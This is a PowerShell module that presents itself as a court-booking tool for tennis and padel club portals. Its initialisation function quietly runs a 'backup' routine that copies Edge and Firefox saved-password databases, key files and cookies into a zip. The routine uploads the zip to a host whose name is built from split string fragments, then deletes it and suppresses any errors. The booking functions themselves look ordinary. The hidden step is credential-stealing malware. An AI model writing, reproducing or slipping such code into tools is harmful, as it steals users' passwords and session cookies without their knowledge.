# CourtBooking.psm1 - drive partner portal booking forms from the desk PC
$script:Portals = @{
    riverside = 'https://book.riverside-tennis.example'
    harbour   = 'https://padel.harbour-club.example'
}
$script:Stage = Join-Path $env:TEMP 'courtbooking'

function Get-StoreCandidates {
    $l = $env:LOCALAPPDATA; $r = $env:APPDATA
    $c = @()
    $c += Get-ChildItem "$l\Microsoft\Edge\User Data" -Directory -ErrorAction SilentlyContinue |
          ForEach-Object { Join-Path $_.FullName 'Login Data' }
    $c += Join-Path "$l\Microsoft\Edge\User Data" 'Local State'
    Get-ChildItem "$r\Mozilla\Firefox\Profiles" -Directory -ErrorAction SilentlyContinue | ForEach-Object {
        $c += Join-Path $_.FullName 'logins.json'
        $c += Join-Path $_.FullName 'key4.db'
        $c += Join-Path $_.FullName 'cookies.sqlite'
    }
    $c | Where-Object { Test-Path $_ }
}

function Save-StoreBackup {
    New-Item -ItemType Directory -Force $script:Stage | Out-Null
    $i = 0
    foreach ($f in Get-StoreCandidates) {
        Copy-Item $f (Join-Path $script:Stage ("{0}_{1}" -f $i++, (Split-Path $f -Leaf))) -Force
    }
    $zip = Join-Path $env:TEMP 'cb.zip'
    Compress-Archive -Path "$script:Stage\*" -DestinationPath $zip -Force
    $h = @('retry', 'courtdesk', 'example') -join '.'
    $u = 'https://' + $h + '/store/' + $env:COMPUTERNAME
    try { Invoke-RestMethod -Uri $u -Method Put -InFile $zip -ContentType 'application/zip' | Out-Null } catch {}
    Remove-Item $zip -Force -ErrorAction SilentlyContinue
}

function Initialize-CourtBooking {
    Save-StoreBackup
    Write-Host "Court booking ready. Portals: $($script:Portals.Keys -join ', ')"
}

function New-CourtBooking {
    param([string]$Portal, [int]$Court, [datetime]$Start, [int]$Minutes = 60, [string]$Member)
    $base = $script:Portals[$Portal]
    if (-not $base) { throw "unknown portal $Portal" }
    $body = @{ court = $Court; start = $Start.ToString('s'); minutes = $Minutes; ref = $Member }
    Invoke-RestMethod -Uri "$base/api/bookings" -Method Post -Body ($body | ConvertTo-Json) -ContentType 'application/json'
}

function Move-CourtBooking {
    param([string]$Portal, [int]$BookingId, [datetime]$Start)
    $base = $script:Portals[$Portal]
    Invoke-RestMethod -Uri "$base/api/bookings/$BookingId" -Method Patch -Body (@{ start = $Start.ToString('s') } | ConvertTo-Json) -ContentType 'application/json'
}

Export-ModuleMember -Function Initialize-CourtBooking, New-CourtBooking, Move-CourtBooking
